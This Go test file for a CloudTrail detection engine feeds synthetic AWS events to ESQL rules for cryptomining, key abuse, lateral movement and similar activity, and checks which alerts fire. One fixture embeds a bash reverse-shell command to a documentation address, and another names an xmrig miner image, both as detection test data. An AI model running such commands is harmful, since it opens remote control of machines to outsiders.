package engine

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"maps"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/maxmind/mmdbwriter"
	"github.com/maxmind/mmdbwriter/mmdbtype"
	"github.com/tinylib/msgp/msgp"

	"github.com/trailwatch/trailwatch/cloudtrail/doc"
	"github.com/trailwatch/trailwatch/conf"
	"github.com/trailwatch/trailwatch/enrich"
	"github.com/trailwatch/trailwatch/store"
)

// The addresses of the test's MaxMind databases: each /24 is one country,
// city and network.
const (
	ipUS  = "203.0.113.10" // US, Ashburn, "Amazon.com, Inc."
	ipUS2 = "203.0.113.11"
	ipGB  = "192.0.2.10"   // GB, London, "EXAMPLE-HOSTING"
	ipJP  = "198.51.100.7" // JP, Tokyo, "Microsoft Corporation" (ct's default address)
)

// geoDB writes a small City and ASN database for the addresses above and
// opens them as the plugin and the CLI do.
func geoDB(t *testing.T) *enrich.DB {
	t.Helper()
	dir := t.TempDir()
	write := func(name, dbType string, recs map[string]mmdbtype.Map) string {
		tree, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: dbType, RecordSize: 28, IPVersion: 6, IncludeReservedNetworks: true})
		if err != nil {
			t.Fatal(err)
		}
		for cidr, r := range recs {
			_, network, err := net.ParseCIDR(cidr)
			if err != nil {
				t.Fatal(err)
			}
			if err := tree.Insert(network, r); err != nil {
				t.Fatal(err)
			}
		}
		var buf bytes.Buffer
		if _, err := tree.WriteTo(&buf); err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, buf.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	names := func(en string) mmdbtype.Map { return mmdbtype.Map{"en": mmdbtype.String(en)} }
	place := func(country, countryName, city string) mmdbtype.Map {
		return mmdbtype.Map{
			"country": mmdbtype.Map{"iso_code": mmdbtype.String(country), "names": names(countryName)},
			"city":    mmdbtype.Map{"names": names(city)},
		}
	}
	network := func(n uint32, org string) mmdbtype.Map {
		return mmdbtype.Map{"autonomous_system_number": mmdbtype.Uint32(n), "autonomous_system_organization": mmdbtype.String(org)}
	}
	city := write("GeoLite2-City.mmdb", "GeoLite2-City", map[string]mmdbtype.Map{
		"203.0.113.0/24":  place("US", "United States", "Ashburn"),
		"192.0.2.0/24":    place("GB", "United Kingdom", "London"),
		"198.51.100.0/24": place("JP", "Japan", "Tokyo"),
	})
	asn := write("GeoLite2-ASN.mmdb", "GeoLite2-ASN", map[string]mmdbtype.Map{
		"203.0.113.0/24":  network(16509, "Amazon.com, Inc."),
		"192.0.2.0/24":    network(64500, "EXAMPLE-HOSTING"),
		"198.51.100.0/24": network(8075, "Microsoft Corporation"),
	})
	db, err := enrich.Open(city, asn)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

// ctAt is ct at a time of 2026-05-04 ("10:04:05" or "10:04:05.250").
func ctAt(clock, source, name, extra string) string {
	if extra != "" {
		extra = "," + extra
	}
	return ct(source, name, fmt.Sprintf(`"eventTime":"2026-05-04T%sZ"`, clock)+extra)
}

// clk is the time of day base plus d, as ctAt takes it.
func clk(base string, d time.Duration) string {
	return at(base).Add(d).Format("15:04:05.000")
}

// many is n records, the i-th made by f.
func many(n int, f func(i int) string) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = f(i)
	}
	return out
}

// assumedRole is the userIdentity of a session of role with a temporary
// key, user.name the role's name.
func assumedRole(role, session, key string) string {
	return fmt.Sprintf(`"userIdentity":{"type":"AssumedRole","principalId":"AROAEXAMPLE:%[2]s",
		"arn":"arn:aws:sts::111122223333:assumed-role/%[1]s/%[2]s","accountId":"111122223333","accessKeyId":%[3]q,
		"sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROAEXAMPLE","arn":"arn:aws:iam::111122223333:role/%[1]s",
		"accountId":"111122223333","userName":%[1]q},"attributes":{"mfaAuthenticated":"false"}}}`, role, session, key)
}

var tenRegions = []string{"us-east-1", "us-east-2", "us-west-1", "us-west-2", "eu-west-1", "eu-west-2", "eu-central-1", "ap-south-1", "ap-northeast-1", "sa-east-1"}

// describeCalls is ten DescribeInstances calls a second apart from start,
// over regions in turn.
func describeCalls(start string, regions []string) []string {
	return many(10, func(i int) string {
		return ctAt(clk(start, time.Duration(i)*time.Second), "ec2.amazonaws.com", "DescribeInstances",
			fmt.Sprintf(`"awsRegion":%q,"requestParameters":{"maxResults":1000}`, regions[i%len(regions)]))
	})
}

type esqlCorpusCase struct {
	rule string
	geo  bool // needs the MaxMind databases
	// hit makes want alerts (an aggregating rule's over every run that
	// sees its records, after its alert_suppression); the first has the
	// columns cols (name=value).
	hit  []string
	want int
	cols []string
	// misses are near misses, each on its own engine: no alert.
	misses [][]string
	// rows, when not -1, is how many of hit's records must give a row
	// before STATS (the rules that cannot fire: the records are as far as
	// CloudTrail goes).
	rows int
}

func esqlCorpusCases() []esqlCorpusCase {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	getBucketAcl := func(n int) []string {
		return many(n, func(i int) string {
			return ctAt(clk("10:04:00", time.Duration(i)*500*time.Millisecond), "s3.amazonaws.com", "GetBucketAcl",
				fmt.Sprintf(`"requestParameters":{"bucketName":"b%02d","acl":""},"resources":[{"type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::b%02d"}]`, i, i))
		})
	}
	describe := describeCalls
	quota := func(code string) []string {
		return many(10, func(i int) string {
			return ctAt(clk("10:04:00", time.Duration(i)*time.Second), "servicequotas.amazonaws.com", "GetServiceQuota",
				fmt.Sprintf(`"awsRegion":%q,"requestParameters":{"serviceCode":"ec2","quotaCode":%q}`, tenRegions[i], code))
		})
	}
	ec2 := func(clock, name, params string) string {
		return ctAt(clock, "ec2.amazonaws.com", name, `"requestParameters":`+params)
	}
	items := `{"instancesSet":{"items":[{"instanceId":"i-0abc1234"}]}}`
	invoke := func(n int, start string, step time.Duration, fnAccount string) []string {
		return many(n, func(i int) string {
			fn := fmt.Sprintf("arn:aws:lambda:us-east-1:%s:function:report", fnAccount)
			return ctAt(clk(start, time.Duration(i)*step), "lambda.amazonaws.com", "Invoke",
				fmt.Sprintf(`"eventCategory":"Data","requestParameters":{"functionName":%q,"invocationType":"RequestResponse"},"resources":[{"type":"AWS::Lambda::Function","ARN":%q}]`, fn, fn))
		})
	}
	inference := func(n int) []string {
		return many(n, func(i int) string {
			return ctAt(clk("10:50:00", time.Duration(i)*time.Second), "bedrock.amazonaws.com", "InvokeModel",
				`"requestParameters":{"modelId":"anthropic.claude-3-haiku-20240307-v1:0"}`)
		})
	}
	ecs := func(cpu string) []string {
		return []string{
			ctAt("10:03:00", "ecs.amazonaws.com", "RegisterTaskDefinition", fmt.Sprintf(`"requestParameters":{"family":"batch",
				"containerDefinitions":[{"name":"worker","image":"docker.io/xmrig/xmrig:latest"}],"cpu":%q,"memory":"16384","requiresCompatibilities":["FARGATE"],"networkMode":"awsvpc"}`, cpu)),
			ctAt("10:04:00", "ecs.amazonaws.com", "RunTask", `"requestParameters":{"cluster":"default","taskDefinition":"batch:1","count":1}`),
		}
	}
	// The rare AS organization: trusted calls from Amazon's network, then two
	// suspicious ones from a hosting network.
	rareASN := func(trusted int) []string {
		out := many(trusted, func(i int) string {
			return ctAt(clk("09:00:00", time.Duration(i)*10*time.Second), "ec2.amazonaws.com", "DescribeVolumes", `"sourceIPAddress":"`+ipUS+`"`)
		})
		return append(out,
			ctAt("10:40:00", "sts.amazonaws.com", "GetCallerIdentity", `"sourceIPAddress":"`+ipGB+`"`),
			ctAt("10:41:00", "s3.amazonaws.com", "ListBuckets", `"sourceIPAddress":"`+ipGB+`"`))
	}
	consoleLogin := func(clock, ip string) string {
		return ctAt(clock, "signin.amazonaws.com", "ConsoleLogin", `"sourceIPAddress":"`+ip+`",
			"userIdentity":{"type":"IAMUser","principalId":"AIDAEXAMPLE","arn":"arn:aws:iam::111122223333:user/alice","accountId":"111122223333","userName":"alice"},
			"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No","LoginTo":"https://console.aws.amazon.com/"}`)
	}
	gh := assumedRole("gh-deploy", "GitHubActions", "ASIAGHKEY00000000001")
	github := func(ip string) []string {
		return []string{
			ctAt("10:10:00", "sts.amazonaws.com", "GetCallerIdentity", gh+`,"sourceIPAddress":"`+ipJP+`","userAgent":"aws-sdk-nodejs/2.1692.0 linux/v20.11.1 configure-aws-credentials-for-github-actions"`),
			ctAt("10:20:00", "s3.amazonaws.com", "ListBuckets", gh+`,"sourceIPAddress":"`+ip+`"`),
		}
	}
	token := func(ip2, console string) []string {
		return []string{
			ctAt("10:20:00", "iam.amazonaws.com", "ListUsers", `"sourceIPAddress":"`+ipUS+`"`+console),
			ctAt("10:22:00", "s3.amazonaws.com", "ListBuckets", `"sourceIPAddress":"`+ip2+`","userAgent":"Boto3/1.34.0 md/Botocore#1.34.0 Python/3.12.1"`+console),
		}
	}
	k8sKey := "ASIAK8SKEY0000000001"
	webIdentity := ctAt("10:10:00", "sts.amazonaws.com", "AssumeRoleWithWebIdentity", `"userIdentity":{"type":"WebIdentityUser",
		"principalId":"arn:aws:iam::111122223333:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/ABC:sts.amazonaws.com:system:serviceaccount:prod:app",
		"userName":"system:serviceaccount:prod:app","identityProvider":"arn:aws:iam::111122223333:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/ABC"},
		"userAgent":"aws-sdk-go-v2/1.24.0","requestParameters":{"roleArn":"arn:aws:iam::111122223333:role/app-role","roleSessionName":"app"},
		"responseElements":{"credentials":{"accessKeyId":"`+k8sKey+`","sessionToken":"token","expiration":"May 4, 2026, 11:10:00 AM"},
		"subjectFromWebIdentityToken":"system:serviceaccount:prod:app","provider":"arn:aws:iam::111122223333:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/ABC",
		"audience":"sts.amazonaws.com","assumedRoleUser":{"assumedRoleId":"AROAEXAMPLE:app","arn":"arn:aws:sts::111122223333:assumed-role/app-role/app"}}`)
	k8sCall := func(clock, source, name string) string {
		return ctAt(clock, source, name, assumedRole("app-role", "app", k8sKey))
	}
	newKey := "AKIAQNEWKEY000000001"
	selfKey := func(usedKey string) []string {
		return []string{
			ctAt("10:01:00", "iam.amazonaws.com", "CreateAccessKey", `"responseElements":{"accessKey":{"accessKeyId":"`+newKey+`","status":"Active","userName":"alice","createDate":"May 4, 2026 10:01:00 AM"}}`),
			ctAt("10:03:00", "s3.amazonaws.com", "ListBuckets", `"userIdentity":{"type":"IAMUser","principalId":"AIDAEXAMPLE","arn":"arn:aws:iam::111122223333:user/alice",
				"accountId":"111122223333","accessKeyId":"`+usedKey+`","userName":"alice"}`),
		}
	}
	training := func(role string) []string {
		return []string{ctAt("10:02:00", "sagemaker.amazonaws.com", "CreateTrainingJob", assumedRole("ml-dev", "bob", "ASIAMLDEV00000000001")+
			`,"requestParameters":{"trainingJobName":"j1","roleArn":"`+role+`","algorithmSpecification":{"trainingImage":"img","trainingInputMode":"File"},
			"resourceConfig":{"instanceType":"ml.m5.large","instanceCount":1},"stoppingCondition":{"maxRuntimeInSeconds":3600},"outputDataConfig":{"s3OutputPath":"s3://out/"}}`)}
	}
	sendCommand := ctAt("10:02:00", "ssm.amazonaws.com", "SendCommand", `"requestParameters":{"documentName":"AWS-RunShellScript","instanceIds":["i-0abc1234"],"parameters":"HIDDEN_DUE_TO_SECURITY_REASONS"},
		"responseElements":{"command":{"commandId":"0b8e1c2d-aaaa-bbbb-cccc-1234567890ab","documentName":"AWS-RunShellScript","instanceIds":["i-0abc1234"],"status":"Pending","comment":"","expiresAfter":"May 4, 2026 12:02:00 PM","parameters":"HIDDEN_DUE_TO_SECURITY_REASONS","requestedDateTime":"May 4, 2026 10:02:00 AM"}}`)

	return []esqlCorpusCase{
		// Not aggregating: one alert per record.
		{rule: "AWS ECR Repository or Registry Policy Granted Public Access", rows: -1,
			hit: []string{
				ctAt("10:00:00", "ecr.amazonaws.com", "SetRepositoryPolicy", `"requestParameters":{"repositoryName":"app","policyText":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Sid\":\"pub\",\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"ecr:BatchGetImage\"}]}"}`),
				ctAt("10:00:01", "ecr.amazonaws.com", "PutRegistryPolicy", `"requestParameters":{"policyText":"{\"Statement\":[{\"Effect\": \"Allow\",\"Principal\": {\"AWS\": \"*\"},\"Action\":\"ecr:ReplicateImage\"}]}"}`),
			}, want: 2,
			misses: [][]string{{ctAt("10:00:00", "ecr.amazonaws.com", "SetRepositoryPolicy", `"requestParameters":{"repositoryName":"app","policyText":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::444455556666:root\"},\"Action\":\"ecr:BatchGetImage\"}]}"}`)}}},
		{rule: "AWS Bedrock API Key Used for Destructive or Anti-Recovery Action", rows: -1,
			hit:  []string{ctAt("10:00:00", "bedrock.amazonaws.com", "DeleteGuardrail", `"requestParameters":{"guardrailIdentifier":"g1"},"additionalEventData":{"callWithBearerToken":true}`)},
			want: 1,
			misses: [][]string{{ctAt("10:00:00", "bedrock.amazonaws.com", "DeleteGuardrail", `"requestParameters":{"guardrailIdentifier":"g1"},"additionalEventData":{"callWithBearerToken":false}`)},
				{ctAt("10:00:00", "bedrock.amazonaws.com", "GetGuardrail", `"requestParameters":{"guardrailIdentifier":"g1"},"additionalEventData":{"callWithBearerToken":true}`)}}},
		{rule: "AWS S3 Object Encryption Using External KMS Key", rows: -1,
			hit: []string{ctAt("10:00:00", "s3.amazonaws.com", "CopyObject", `"requestParameters":{"bucketName":"data","x-amz-server-side-encryption-aws-kms-key-id":"arn:aws:kms:us-east-1:444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab",
				"Host":"data.s3.us-east-1.amazonaws.com","x-amz-server-side-encryption":"aws:kms","x-amz-copy-source":"data/report.csv","key":"report.csv"}`)},
			want: 1,
			cols: []string{"Esql.aws_cloudtrail_request_parameters_kms_key_account_id=444455556666", "Esql.aws_cloudtrail_request_parameters_target_bucket_name=data",
				"Esql.aws_cloudtrail_request_parameters_kms_key_id=1234abcd-12ab-34cd-56ef-1234567890ab", "Esql.aws_cloudtrail_request_parameters_target_object_key=report.csv"},
			misses: [][]string{{ctAt("10:00:00", "s3.amazonaws.com", "CopyObject", `"requestParameters":{"bucketName":"data","x-amz-server-side-encryption-aws-kms-key-id":"arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab",
				"Host":"data.s3.us-east-1.amazonaws.com","x-amz-server-side-encryption":"aws:kms","x-amz-copy-source":"data/report.csv","key":"report.csv"}`)}}},
		{rule: "AWS S3 Static Site JavaScript File Uploaded", rows: -1,
			hit:  []string{ctAt("10:00:00", "s3.amazonaws.com", "PutObject", `"requestParameters":{"bucketName":"site","Host":"site.s3.us-east-1.amazonaws.com","key":"static/js/main.3f2a.js"}`)},
			want: 1,
			cols: []string{"Esql.aws_cloudtrail_request_parameters_bucket_name=site", "Esql.aws_cloudtrail_request_parameters_object_key=main.3f2a.js"},
			misses: [][]string{{ctAt("10:00:00", "s3.amazonaws.com", "PutObject", `"requestParameters":{"bucketName":"site","Host":"site.s3.us-east-1.amazonaws.com","key":"static/js/main.3f2a.js.map"}`)},
				{ctAt("10:00:00", "s3.amazonaws.com", "PutObject", `"userAgent":"APN/1.0 HashiCorp/1.0 Terraform/1.7.0","requestParameters":{"bucketName":"site","Host":"site.s3.us-east-1.amazonaws.com","key":"static/js/main.3f2a.js"}`)}}},
		{rule: "AWS IAM User Created Access Keys For Another User", rows: -1,
			hit:  []string{ctAt("10:00:00", "iam.amazonaws.com", "CreateAccessKey", `"requestParameters":{"userName":"bob"},"responseElements":{"accessKey":{"accessKeyId":"AKIABOBKEY0000000001","status":"Active","userName":"bob","createDate":"May 4, 2026 10:00:00 AM"}}`)},
			want: 1,
			misses: [][]string{{ctAt("10:00:00", "iam.amazonaws.com", "CreateAccessKey", `"requestParameters":{"userName":"alice"},"responseElements":{"accessKey":{"accessKeyId":"AKIAALICEKEY00000001","status":"Active","userName":"alice","createDate":"May 4, 2026 10:00:00 AM"}}`)},
				// No userName: the key is the caller's own, user.target.name
				// is null and so is the comparison.
				{ctAt("10:00:00", "iam.amazonaws.com", "CreateAccessKey", `"responseElements":{"accessKey":{"accessKeyId":"AKIAALICEKEY00000001","status":"Active","userName":"alice","createDate":"May 4, 2026 10:00:00 AM"}}`)}}},
		{rule: "AWS SageMaker Notebook Lifecycle Configuration With Suspicious Script Content", rows: -1,
			hit: []string{ctAt("10:00:00", "sagemaker.amazonaws.com", "CreateNotebookInstanceLifecycleConfig",
				`"requestParameters":{"notebookInstanceLifecycleConfigName":"lc","onStart":[{"content":"`+b64("#!/bin/bash\nBASH -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")+`"}]}`)},
			want: 1,
			cols: []string{"Esql_priv.aws_cloudtrail_lifecycle_script=#!/bin/bash\nBASH -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"},
			misses: [][]string{{ctAt("10:00:00", "sagemaker.amazonaws.com", "CreateNotebookInstanceLifecycleConfig",
				`"requestParameters":{"notebookInstanceLifecycleConfigName":"lc","onStart":[{"content":"`+b64("#!/bin/bash\npip install --upgrade pandas\n")+`"}]}`)}}},
		{rule: "AWS IAM Credentials Added to a Bedrock API Key Phantom User", rows: -1,
			hit: []string{ctAt("10:00:00", "iam.amazonaws.com", "CreateAccessKey", `"requestParameters":{"userName":"BedrockAPIKey-7x2q"}`),
				ctAt("10:00:01", "iam.amazonaws.com", "CreateLoginProfile", `"requestParameters":{"userName":"BedrockAPIKey-7x2q","passwordResetRequired":false}`)},
			want:   2,
			misses: [][]string{{ctAt("10:00:00", "iam.amazonaws.com", "CreateAccessKey", `"requestParameters":{"userName":"bedrock-admin"}`)}}},

		// Aggregating, every 5m over 6m unless said: records in [10:04,
		// 10:05) are seen by the runs at 10:05 and 10:10.
		{rule: "AWS EC2 Multi-Region DescribeInstances API Calls", rows: -1,
			hit: describe("10:04:00", tenRegions), want: 2,
			cols: []string{"Esql.cloud_region_count_distinct=10", "Esql.event_count=10", "Esql.time_window_date_trunc=2026-05-04T10:04:00.000Z", "aws.cloudtrail.user_identity.arn=arn:aws:iam::111122223333:user/alice"},
			// Nine regions; ten, but across two 30-second windows.
			misses: [][]string{describe("10:04:00", tenRegions[:9]), describe("10:04:25", tenRegions)}},
		{rule: "AWS S3 Rapid Bucket Posture API Calls from a Single Principal", rows: -1,
			hit: getBucketAcl(16), want: 2,
			cols:   []string{"Esql.aws_cloudtrail_resources_arn_count_distinct=16", "source.ip=" + ipJP, "Esql.time_window_date_trunc=2026-05-04T10:04:00.000Z"},
			misses: [][]string{getBucketAcl(15)}},
		{rule: "AWS Service Quotas Multi-Region GetServiceQuota Requests", rows: -1,
			hit: quota("L-1216C47A"), want: 2,
			cols:   []string{"Esql.cloud_region_count_distinct=10", "Esql.event_count=10"},
			misses: [][]string{quota("L-34B43A08")}},
		// Every 5m over 20m, in 5-minute buckets: the runs 10:05 to 10:20.
		{rule: "AWS EC2 Stop, Start, and User Data Modification Correlation", rows: -1,
			hit: []string{ec2("10:01:00", "StopInstances", `{"instancesSet":{"items":[{"instanceId":"i-0abc1234"}]},"force":false}`),
				ec2("10:02:00", "ModifyInstanceAttribute", `{"instanceId":"i-0abc1234","userData":"<sensitiveDataRemoved>"}`),
				ec2("10:03:00", "StartInstances", items)},
			want: 4,
			cols: []string{"Esql.event_action_unique_count=3", "Esql.instance_id=i-0abc1234", "Esql.time_bucket=2026-05-04T10:00:00.000Z", "user.name=alice"},
			misses: [][]string{{ec2("10:01:00", "StopInstances", items),
				ec2("10:02:00", "ModifyInstanceAttribute", `{"instanceId":"i-0abc1234","instanceType":{"value":"c5.4xlarge"}}`),
				ec2("10:03:00", "StartInstances", items)}}},
		// Every 60m over 61m: records in [10:59, 11:00) are seen by the runs
		// at 11:00 and 12:00.
		{rule: "AWS Lambda Function Invoked Cross-Account", rows: -1,
			hit: invoke(2, "10:59:20", 20*time.Second, "444455556666"), want: 2,
			cols:   []string{"Esql.caller_account=111122223333", "Esql.function_account=444455556666", "Esql.invocation_count=2"},
			misses: [][]string{invoke(2, "10:59:20", 20*time.Second, "111122223333")}},
		{rule: "AWS Lambda Function High-Frequency Invocation by a Single Principal", rows: -1,
			hit: invoke(1000, "10:59:00", 50*time.Millisecond, "111122223333"), want: 2,
			cols:   []string{"Esql.invocation_count=1000", "aws.cloudtrail.user_identity.arn=arn:aws:iam::111122223333:user/alice"},
			misses: [][]string{invoke(999, "10:59:00", 50*time.Millisecond, "111122223333")}},
		// Every 10m over 60m: the runs 11:00 to 11:50 see the 500 calls;
		// the rule suppresses by principal for 60m, so the first alerts.
		{rule: "AWS Bedrock High-Frequency Single-Model Inference API Probing", rows: -1,
			hit: inference(500), want: 1,
			cols:   []string{"Esql.inference_call_count=500", "Esql.model_id=anthropic.claude-3-haiku-20240307-v1:0", "Esql.timestamp_min=2026-05-04T10:50:00.000Z"},
			misses: [][]string{inference(499)}},
		// Every 5m over 30m: the runs 10:05 to 10:30.
		{rule: "AWS Potential Cryptomining via ECS Task Definition Deployment", rows: -1,
			hit: ecs("8192"), want: 6,
			cols:   []string{"Esql.miner_register_sum=1", "Esql.task_run_sum=1", "Esql.event_count=2"},
			misses: [][]string{ecs("1024")}},
		// Every 1h over 24h: the 24 runs 11:00 to 10:00 the next day.
		{rule: "AWS Lateral Movement from Kubernetes SA via AssumeRoleWithWebIdentity", rows: -1,
			hit: []string{webIdentity, k8sCall("10:12:00", "sts.amazonaws.com", "GetCallerIdentity"),
				k8sCall("10:13:00", "s3.amazonaws.com", "ListBuckets"), k8sCall("10:14:00", "secretsmanager.amazonaws.com", "GetSecretValue")},
			want: 24,
			cols: []string{"aws.cloudtrail.user_identity.access_key_id=" + k8sKey, "Esql.assume_count=1", "Esql.post_exploit_count=4", "Esql.total_calls=4"},
			misses: [][]string{{webIdentity, k8sCall("10:12:00", "sts.amazonaws.com", "GetCallerIdentity")},
				{ctAt("10:10:00", "sts.amazonaws.com", "AssumeRoleWithWebIdentity", `"userIdentity":{"type":"WebIdentityUser","userName":"accounts.google.com:1234"},"responseElements":{"credentials":{"accessKeyId":"`+k8sKey+`","sessionToken":"t"}}`),
					k8sCall("10:12:00", "sts.amazonaws.com", "GetCallerIdentity"), k8sCall("10:13:00", "s3.amazonaws.com", "ListBuckets")}}},
		// Every 5m over 35m: the runs 10:05 to 10:35; suppressed 35m by
		// principal, so the first alerts.
		{rule: "AWS IAM User Self-Created Access Key Subsequently Used", rows: -1,
			hit: selfKey(newKey), want: 1,
			cols:   []string{"Esql_priv.aws_cloudtrail_access_key_id_correlation=" + newKey, "Esql.aws_cloudtrail_self_access_key_creation_count=1", "Esql.aws_cloudtrail_created_access_key_use_count=1", "Esql_priv.aws_cloudtrail_user_identity_access_key_id_creator_values=AKIAEXAMPLE"},
			misses: [][]string{selfKey("AKIAQOTHERKEY0000001")}},
		// Every 10m over 7d: only the run at 10:10 finds the record ingested
		// within 10 minutes.
		{rule: "AWS SageMaker Execution Role Passed by Unusual Principal", rows: -1,
			hit: training("arn:aws:iam::111122223333:role/SageMakerExec"), want: 1,
			cols:   []string{"Esql.principal_arn=arn:aws:iam::111122223333:role/ml-dev", "Esql.aws_cloudtrail_request_parameters_role_arn=arn:aws:iam::111122223333:role/SageMakerExec", "Esql.event_count=1"},
			misses: [][]string{training("arn:aws:iam::1234:role/SageMakerExec")}},

		// With the MaxMind databases.
		// Every 10m over 65m: the runs 10:30 to 11:20.
		{rule: "AWS IAM User Console Login from Multiple Geolocations", geo: true, rows: -1,
			hit: []string{consoleLogin("10:20:00", ipUS), consoleLogin("10:22:00", ipGB)}, want: 6,
			cols:   []string{"Esql.source_geo_country_iso_code_count_distinct=2", "Esql.source_as_organization_name_count_distinct=2", "cloud.account.id=111122223333"},
			misses: [][]string{{consoleLogin("10:20:00", ipUS), consoleLogin("10:22:00", ipUS2)}}},
		// Every 1h over 7d, alerting only when the last untrusted call is
		// within the hour before the run: the run at 11:00.
		{rule: "AWS Rare Source AS Organization Activity", geo: true, rows: -1,
			hit: rareASN(198), want: 1,
			cols:   []string{"Esql.total_events_all_asns=200", "Esql.untrusted_event_count=2", "Esql.trusted_cloud_event_count=198", "Esql.rare_asn_ratio=0.01", "Esql.unique_action_from_untrusted_asn=2", "user.name=alice"},
			misses: [][]string{rareASN(197)}}, // 2/199 > 0.01
		{rule: "AWS Credentials Used from GitHub Actions and Non-CI/CD Infrastructure", geo: true, rows: -1,
			hit: github(ipGB), want: 1,
			cols:   []string{"Esql.is_github_aws_key=1", "Esql.has_suspicious_asn=1", "user.name=gh-deploy", "aws.cloudtrail.user_identity.access_key_id=ASIAGHKEY00000000001"},
			misses: [][]string{github(ipUS)}},
		// Every 15m over 32m, in 30-minute buckets: the runs 10:30 and 10:45.
		// The rule reads `not session_credential_from_console == "true"`,
		// null (so no row) on records without the field.
		{rule: "AWS Access Token Used from Multiple Addresses", geo: true, rows: -1,
			hit: token(ipGB, `,"sessionCredentialFromConsole":"false"`), want: 2,
			cols:   []string{"Esql.activity_type=multiple_ip_network_city_user_agent", "Esql.activity_fidelity_score=high", "Esql.event_provider_count_distinct=2", "Esql.source_ip_count_distinct=2"},
			misses: [][]string{token(ipGB, ""), token(ipUS2, `,"sessionCredentialFromConsole":"false"`)}},

		// Cannot fire on CloudTrail alone.
		{rule: "Multiple Cloud Secrets Accessed by Source Address", rows: 3,
			hit: many(3, func(i int) string {
				return ctAt(clk("10:04:00", time.Duration(i)*time.Second), "secretsmanager.amazonaws.com", "GetSecretValue", fmt.Sprintf(`"requestParameters":{"secretId":"s%d"}`, i))
			})},
		{rule: "AWS EC2 LOLBin Execution via SSM SendCommand", rows: 1, hit: []string{sendCommand}},
		// user_agent.name comes from the user_agent processor's parse of
		// userAgent (aws-cli); six discovery calls in one 10-second window
		// alert at the runs at 10:05 and 10:10; five do not.
		{rule: "AWS Discovery API Calls via CLI from a Single Resource", rows: 6, want: 2,
			hit: many(6, func(i int) string {
				return ctAt(clk("10:04:00", time.Duration(i)*time.Second), "ec2.amazonaws.com",
					[]string{"DescribeInstances", "DescribeVpcs", "DescribeSubnets", "DescribeSecurityGroups", "DescribeVolumes", "DescribeSnapshots"}[i], "")
			}),
			misses: [][]string{many(5, func(i int) string {
				return ctAt(clk("10:04:00", time.Duration(i)*time.Second), "ec2.amazonaws.com",
					[]string{"DescribeInstances", "DescribeVpcs", "DescribeSubnets", "DescribeSecurityGroups", "DescribeVolumes"}[i], "")
			})}},
	}
}

// esqlTick is a record no corpus rule reads, at a time: it moves the event
// clock.
func esqlTick(t time.Time) string {
	return fmt.Sprintf(`{"eventSource":"tick.amazonaws.com","eventName":"Tick","eventTime":%q,"eventID":"tick-%d",
		"userIdentity":{"type":"AWSService","invokedBy":"tick.amazonaws.com"},"sourceIPAddress":"tick.amazonaws.com"}`, t.Format(time.RFC3339), t.Unix())
}

func eventTime(t *testing.T, js string) time.Time {
	t.Helper()
	var r struct{ EventTime string }
	if err := json.Unmarshal([]byte(js), &r); err != nil {
		t.Fatalf("%v: %s", err, js)
	}
	tm, err := time.Parse(time.RFC3339Nano, r.EventTime)
	if err != nil {
		t.Fatal(err)
	}
	return tm
}

// parseRecords reads records as trees, or, inPlace, as MessagePack bodies
// read in place (the plugin's path; JSON integers stay integers).
func parseRecords(t *testing.T, records []string, inPlace bool) []Record {
	t.Helper()
	var recs []Record
	for _, js := range records {
		if !inPlace {
			n, err := doc.ParseJSON([]byte(js))
			if err != nil {
				t.Fatalf("%v: %s", err, js)
			}
			recs = append(recs, Record{Node: n})
			continue
		}
		n, err := doc.ParseJSON([]byte(js))
		if err != nil {
			t.Fatalf("%v: %s", err, js)
		}
		b := appendNode(nil, n)
		recs = append(recs, Record{Msgpack: b})
	}
	return recs
}

// appendNode writes a tree as MessagePack, members in their order (as a
// Fluent Bit record keeps the JSON's), integers as integers.
func appendNode(b []byte, n *doc.Node) []byte {
	switch n.Kind {
	case doc.Object:
		live := 0
		for _, m := range n.Obj {
			if m.Val != nil {
				live++
			}
		}
		b = msgp.AppendMapHeader(b, uint32(live))
		for _, m := range n.Obj {
			if m.Val != nil {
				b = appendNode(msgp.AppendString(b, m.Key), m.Val)
			}
		}
		return b
	case doc.Array:
		b = msgp.AppendArrayHeader(b, uint32(len(n.Arr)))
		for _, e := range n.Arr {
			b = appendNode(b, e)
		}
		return b
	case doc.String:
		return msgp.AppendString(b, n.Str)
	case doc.Number:
		if i, err := strconv.ParseInt(n.Str, 10, 64); err == nil && !n.Float {
			return msgp.AppendInt64(b, i)
		}
		f, _ := strconv.ParseFloat(n.Str, 64)
		return msgp.AppendFloat64(b, f)
	case doc.Bool:
		return msgp.AppendBool(b, n.Str == "true")
	}
	return msgp.AppendNil(b)
}

// feedMode is how feedESQL gives the records.
type feedMode struct {
	db      *enrich.DB // the MaxMind databases, or nil
	restart bool       // close and open the engine again between batches
	inPlace bool       // as MessagePack read in place
}

// esqlFeed is what feeding a rule's records made.
type esqlFeed struct {
	ids        []string
	docs       []map[string]any
	steps      []int // alerts per batch (the last: Drain's)
	rows       int   // records that gave a row (Stats.Matches)
	suppressed int
}

// feedESQL runs records (in time order) through a new engine with the rule
// alone on the event clock, as a live feed would: ingested two minutes
// after each batch's last record. An aggregating rule's records go in two
// batches, then a third holds a record past the next run time (so that
// runs are made before the end), then Drain makes the last runs; with
// restart, the engine is closed and opened again on the same state file
// before each batch and before Drain.
